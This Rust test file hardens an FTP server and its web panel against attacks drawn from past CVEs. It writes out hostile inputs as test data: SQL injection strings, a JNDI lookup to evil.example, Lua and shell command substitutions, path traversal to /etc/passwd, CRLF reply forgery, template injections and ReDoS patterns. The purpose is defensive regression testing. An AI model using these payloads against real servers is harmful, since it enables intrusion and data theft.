//! What other servers learned the hard way. Each test is named by the lesson and cites who paid for it.
//!
//! More of the same stands elsewhere: traversal and renames through links (Serv-U CVE-2024-28995, ProFTPD #2256) in
//! [`jail`](crate::jail), bounce and hijacked data connections in [`data_connections`](crate::data_connections), numbers
//! out of range (ProFTPD #2286) in [`protocol`](crate::protocol) and [`commands`](crate::commands), tokens and
//! half of a header (CrushFTP CVE-2025-31161) in [`api`](crate::api), truncation under TLS in
//! [`hostile`](crate::hostile).

use crate::support::{
    bounded, everything, names,
    server::{LOGIN, PASSWORD, Site, Wharf},
    siege::Siege,
    succeed,
    tls::Tls,
    wire::Wire,
};
use std::{
    collections::BTreeSet,
    fs,
    os::unix::fs::symlink,
    sync::atomic::{AtomicBool, Ordering},
};

/// Names that were code, or the end of a line, to somebody.
const POISONED: &[&str] = &[
    "alice' or '1'='1",
    "alice'; drop table account; --",
    "alice\" or \"\"=\"",
    "%' union select * from account --",
    "alice]]print(os.execute('id'))--",
    "alice\r250 forged",
    "\u{1b}]0;forged\u{7}",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "%n%n%s",
    "../alice",
    "alice/../alice",
    "*",
    "\u{202e}ecila",
];

/// MOVEit CVE-2023-34362 (SQL), Wing FTP CVE-2025-47812 (NUL and Lua in the user name).
#[test]
fn a_user_name_is_never_code() {
    let mut site = Site::with_account();
    site.set("logins.attempts", 0);
    let server = site.start();
    for name in POISONED {
        let mut wire = server.connect();
        wire.expect(&format!("USER {name}"), 331);
        assert_eq!(wire.expect(&format!("PASS {PASSWORD}"), 530).text, "530 Login incorrect", "{name}");
        let answer = sign_in(&server, name, PASSWORD);
        assert_eq!(answer, "401", "{name}");
    }
    let mut wire = server.connect();
    wire.send_bytes(b"USER alice\0]]\r\n");
    wire.expect_reply(501);
    wire.expect(&format!("PASS {PASSWORD}"), 503);
    let log = server.log_text();
    assert!(log.contains("login failed") && !log.contains('\u{1b}') && !log.contains('\u{202e}'), "{log}");
    assert!(!log.lines().any(|line| line.starts_with("250 forged")), "{log}");
}

/// The status of a sign-in to the panel.
fn sign_in(server: &Wharf, login: &str, password: &str) -> String {
    let mut curl = bounded("curl");
    curl.args(["-q", "-sSk", "-o", "/dev/null", "-w", "%{http_code}"]);
    curl.arg("--data-urlencode").arg(format!("login={login}"));
    curl.arg("--data-urlencode").arg(format!("password={password}"));
    succeed(curl.arg(format!("https://{}/fn/sign_in", server.panel())))
}

/// russh CVE-2026-46705, MOVEit CVE-2024-5806: what was proved for one name counts for that name only.
#[test]
fn a_password_is_for_the_name_before_it() {
    let site = Site::with_account();
    let added = site.run(&["account", "add", "acme.example", "bob", "--password-stdin"], "the password of bob");
    assert!(added.status.success());
    let server = site.start();
    let mut wire = server.connect();
    wire.expect("USER bob", 331);
    wire.expect(&format!("USER {LOGIN}"), 331);
    wire.expect("PASS the password of bob", 530);
    wire.expect(&format!("PASS {PASSWORD}"), 503);
    wire.expect(&format!("USER {LOGIN}"), 331);
    wire.expect("USER bob", 331);
    wire.expect("PASS the password of bob", 230);
    assert!(wire.expect("STAT", 211).text.contains("Logged in as bob of"));
}

/// ProFTPD CVE-2015-3306, CVE-2019-12815: every command that the server names itself is tried without a login, then by
/// an account without the right to change anything.
#[test]
fn no_command_acts_without_a_login_or_without_the_right() {
    const OPEN: &[&str] = &[
        "ACCT", "AUTH", "CCC", "CLNT", "CSID", "FEAT", "HELP", "HOST", "LANG", "NOOP", "OPTS", "PASS", "PBSZ", "PROT",
        "QUIT", "REIN", "SYST", "USER",
    ];
    let site = Site::with_account();
    site.add_account("reader", &["--read-only"]);
    let server = site.start();
    let home = server.home("reader");
    fs::create_dir(home.join("directory")).unwrap();
    let file = server.write_home("reader", "file", b"content");
    let before = file.metadata().unwrap();
    let mut stranger = server.connect();
    let mut reader = server.log_in_as("reader");
    let mut commands: Vec<String> = listed(&mut stranger, "HELP");
    commands.extend(
        listed(&mut reader, "SITE HELP").iter().map(|name| format!("SITE {}", name.trim_start_matches("SITE "))),
    );
    assert!(commands.len() > 50, "{commands:?}");
    for command in &commands {
        let open = OPEN.contains(&command.as_str());
        for argument in
            ["", " file", " directory", " 644 file", " 20200101000000 file", " file link", " UNIX.mode=0777; file"]
        {
            if !open {
                stranger.expect(&format!("{command}{argument}"), 530);
            }
            // What would end the session or its login has nothing to change either.
            if !matches!(command.as_str(), "QUIT" | "REIN" | "AUTH") {
                reader.passive();
                let reply = reader.command(&format!("{command}{argument}"));
                if reply.code == 150 {
                    reader.send("ABOR");
                    reader.reply();
                    reader.expect_reply(226);
                }
            }
        }
        assert_eq!(everything(&home), ["directory", "file"], "after {command}");
        let after = file.metadata().unwrap();
        assert_eq!(fs::read(&file).unwrap(), b"content", "after {command}");
        assert_eq!(
            (after.permissions(), after.modified().unwrap()),
            (before.permissions(), before.modified().unwrap()),
            "after {command}"
        );
    }
}

/// The names in the list that HELP and the like answer with.
fn listed(wire: &mut Wire, command: &str) -> Vec<String> {
    let reply = wire.expect(command, 214).text;
    let lines = reply.lines().filter_map(|line| line.strip_prefix(' '));
    let names: BTreeSet<_> = match command {
        "SITE HELP" => lines.filter_map(|line| line.split(' ').nth(1)).map(str::to_owned).collect(),
        _ => lines.flat_map(str::split_whitespace).map(str::to_owned).collect(),
    };
    names.into_iter().collect()
}

/// SFTPGo CVE-2026-30915: a name that becomes a directory must not become another one.
#[test]
fn an_account_is_not_named_after_another_directory() {
    let site = Site::with_account();
    for name in [".", "..", "../bob", "a/b", "a\\b", ".hidden", "", "a b", "a\nb", "a\u{7f}", "a@b"] {
        let added = site.run(&["account", "add", "acme.example", name, "--password-stdin"], PASSWORD);
        assert!(!added.status.success(), "{name:?} was added");
    }
    assert_eq!(names(&site.root("acme.example")), [LOGIN]);
    for (name, home) in [("one", "../../elsewhere"), ("two", "/../elsewhere"), ("three", "x/../../elsewhere")] {
        site.add_account(name, &["--home", home]);
    }
    assert_eq!(names(&site.root("acme.example")), [LOGIN, "elsewhere"], "a home is below the root of its domain");
    assert!(!site.root("elsewhere").exists());
    for home in ["a\nb", "\u{1b}", &"x".repeat(300)] {
        let added = site.run(&["account", "add", "acme.example", "four", "--password-stdin", "--home", home], PASSWORD);
        assert!(!added.status.success(), "{home:?}");
    }
}

/// SFTPGo CVE-2026-10031, ProFTPD #2256: links are looked at when they are used, not before.
#[test]
fn a_directory_that_becomes_a_link_in_the_middle_leads_nowhere() {
    let server = Wharf::start();
    server.add_account("bob", &[]);
    let (home, outside) = (server.home(LOGIN), server.home("bob"));
    fs::write(outside.join("secret"), "of no concern to alice").unwrap();
    fs::create_dir(home.join("real")).unwrap();
    fs::write(home.join("real/secret"), "alice's own").unwrap();
    symlink(&outside, home.join("link")).unwrap();
    let (running, racing) = (AtomicBool::new(true), home.join("racing"));
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while running.load(Ordering::Relaxed) {
                for name in ["real", "link"] {
                    fs::rename(home.join(name), &racing).unwrap();
                    fs::rename(&racing, home.join(name)).unwrap();
                }
            }
        });
        let mut wire = server.log_in();
        for number in 0..200 {
            wire.expect("NOOP", 200);
            if wire.command("SIZE racing/secret").code == 213 {
                assert_ne!(wire.command("SIZE racing/secret").text, "213 22");
            }
            wire.command("DELE racing/secret");
            wire.command(&format!("MKD racing/new-{number}"));
            server.write_home(LOGIN, "mine", b"alice's");
            wire.expect("RNFR mine", 350);
            wire.command("RNTO racing/planted");
        }
        running.store(false, Ordering::Relaxed);
    });
    assert_eq!(everything(&outside), ["secret"]);
}

/// Wing FTP CVE-2025-47813 (the path of the installation in an error), Serv-U CVE-2026-28318 (a body unpacked before
/// anybody asked who sent it), CVE-2023-0669 and its like (a path that is decoded twice).
#[test]
fn errors_of_the_panel_tell_nothing_and_cost_nothing() {
    let siege = Siege::begin();
    let (token, long) = (siege.add_token("good", "administrator"), "x".repeat(300_000));
    let headers = siege.write_local("headers", format!("cookie: __Host-wharf={long}\n").as_bytes());
    let address = format!("@{}", headers.display());
    let authorization = format!("authorization: Bearer {token}");
    let cookie = format!("cookie: __Host-wharf={}", "y".repeat(8_000));
    let half = format!("authorization: Bearer {}", &token[..10]);
    let requests: &[(&str, &[&str])] = &[
        ("/", &["-H", &address]),
        ("/sessions", &["-H", &cookie]),
        ("/api/v1/sessions", &["-H", &half]),
        ("/api/v1/sessions", &["-H", "authorization: Bearer"]),
        ("/api/v1/sessions?limit=%00", &["-H", &authorization]),
        ("/api/v1/sessions?limit=1%27%20or%201", &["-H", &authorization]),
        ("/api/v1/sessions/%2e%2e%2f%2e%2e%2fetc", &["-H", &authorization]),
        ("/api/v1/sessions/%00", &["-H", &authorization]),
        ("/api/v1/..;/..;/etc/passwd", &[]),
        ("/%2e%2e/%2e%2e/%2e%2e/etc/passwd", &["--path-as-is"]),
        ("/../../../../etc/passwd", &["--path-as-is"]),
        ("/pkg/..%5c..%5cwharf.db", &["--path-as-is"]),
        ("//wharf-data/wharf.db", &[]),
        ("/fn/sign_in", &["-H", "content-type: application/json", "-d", "{"]),
        ("/fn/kick", &["-H", "content-type: application/json", "-d", "[[[[[[[[["]),
        ("/fn/none", &["-d", "x"]),
        ("/fn/sign_in", &["-H", "content-encoding: deflate", "-d", "login=x&password=x"]),
        ("/api/v1/sessions/x/kick", &["-H", &authorization, "-H", "content-encoding: gzip", "-d", "x"]),
        ("/live", &[]),
        ("/live", &["-X", "TRACE"]),
    ];
    let own = siege.data().parent().unwrap().display().to_string();
    for version in ["--http1.1", "--http2"] {
        for (path, options) in requests {
            let mut curl = bounded("curl");
            curl.args(["-q", "-sSk", "-i", version]).args(*options).arg(format!("https://{}{path}", siege.panel()));
            // A server may close on what is too long instead of answering.
            let answer = crate::support::told(&curl.output().unwrap());
            for told in [&own, "/root/", "server/src", ".rs:", "panicked", "sqlx", "sqlite", "root:x:"] {
                assert!(!answer.contains(told), "{path} {options:?} tells {told}: {answer}");
            }
            let status = answer.split_whitespace().nth(1).unwrap_or_default();
            // A server function says 500 to arguments that are none.
            assert!(path.starts_with("/fn/") || !status.starts_with('5'), "{path} {options:?}: {answer}");
            if options.iter().any(|option| option.starts_with("content-encoding")) {
                assert_eq!(status, "415", "{path}: {answer}");
            }
        }
    }
    siege.lift();
}

/// CrushFTP CVE-2024-4040, Wing FTP CVE-2026-44403: texts in names stay texts, wherever they are shown.
#[test]
fn a_template_in_a_name_is_shown_as_it_is() {
    let server = Wharf::start();
    let rest = server.rest();
    let mut wire = server.log_in();
    for name in [
        "${jndi:ldap:",
        "{{7*7}}",
        "<INCLUDE>passwd<INCLUDE>",
        "%(home)s",
        "#{7*7}",
        "<%= 7*7 %>",
        "{user_name}",
        "$(id)",
        "`id`",
    ] {
        wire.expect(&format!("MKD {name}"), 257);
        wire.expect(&format!("CWD {name}"), 250);
        assert_eq!(wire.expect("PWD", 257).text, format!("257 \"/{name}\" is the current directory"));
        rest.session(name, |row| row["cwd"] == format!("/{name}"));
        wire.expect("CWD /", 250);
    }
}

/// CVE-2011-0411 and its kin (STARTTLS injection): nothing that was said in clear counts under TLS.
#[test]
fn nothing_said_in_clear_counts_under_tls() {
    let server = Wharf::start();
    let mut wire = server.connect();
    wire.expect("OPTS MLST size;", 200);
    wire.expect("USER bob", 331);
    wire.send_bytes(b"AUTH TLS\r\nUSER bob\r\nPASS x\r\nOPTS MLST type;\r\n");
    wire.expect_reply(234);
    wire.handshake(Tls::trusting(&server.certificate()));
    wire.expect(&format!("PASS {PASSWORD}"), 503);
    assert!(wire.expect("FEAT", 211).text.contains("MLST type*;size*;modify*;"));
    wire.log_in(LOGIN);
    wire.protect();
    // And back: what was sent ahead under TLS is not carried over into clear.
    wire.send_bytes(b"CCC\r\nMKD injected\r\n");
    wire.expect_reply(200);
    drop(wire);
    server.rest().until_empty();
    assert_eq!(names(&server.home(LOGIN)), [""; 0]);
}

/// Pure-FTPd, vsftpd CVE-2011-0762: one pattern must not keep a processor.
#[test]
fn a_pattern_is_no_program() {
    let siege = Siege::begin();
    siege.write_home(LOGIN, &"a".repeat(255), b"");
    let mut wire = siege.log_in();
    for pattern in ["{{a,b},{c,d}}*".repeat(15), "[[[[[[".repeat(40), "(a+)+$".repeat(40), "\\*".repeat(100)] {
        wire.passive();
        let reply = wire.command(&format!("NLST {pattern}"));
        assert!(matches!(reply.code, 150 | 550), "{pattern}: {}", reply.text);
        if reply.code == 150 {
            wire.send("ABOR");
            wire.reply();
            wire.expect_reply(226);
        }
    }
    siege.lift();
}
